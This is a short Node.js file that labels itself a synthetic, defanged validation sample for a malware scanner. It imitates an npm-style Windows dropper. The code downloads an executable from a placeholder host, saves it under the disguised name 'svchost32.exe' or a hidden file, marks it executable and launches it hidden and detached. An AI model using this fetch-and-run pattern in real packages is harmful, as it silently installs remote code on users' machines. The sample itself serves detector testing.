// SYNTHETIC, DEFANGED malwi validation sample - modelled on bb-builder style Windows executable droppers (2019); never run.
// Download a Windows executable over HTTPS, save it, mark it executable and start it detached.
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const dir = path.join(os.tmpdir(), 'malwi-defanged-placeholder');
const file = path.join(dir, os.platform() === 'win32' ? 'svchost32.exe' : '.cache-helper');
fs.mkdirSync(dir, { recursive: true });

https
  .get('https://files.example.invalid/dl/' + os.platform() + '/helper', (res) => {
    const out = fs.createWriteStream(file);
    res.pipe(out);
    out.on('finish', () => {
      out.close();
      try {
        fs.chmodSync(file, 0o755);
      } catch (e) {}
      spawn(file, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
    });
  })
  .on('error', () => {});
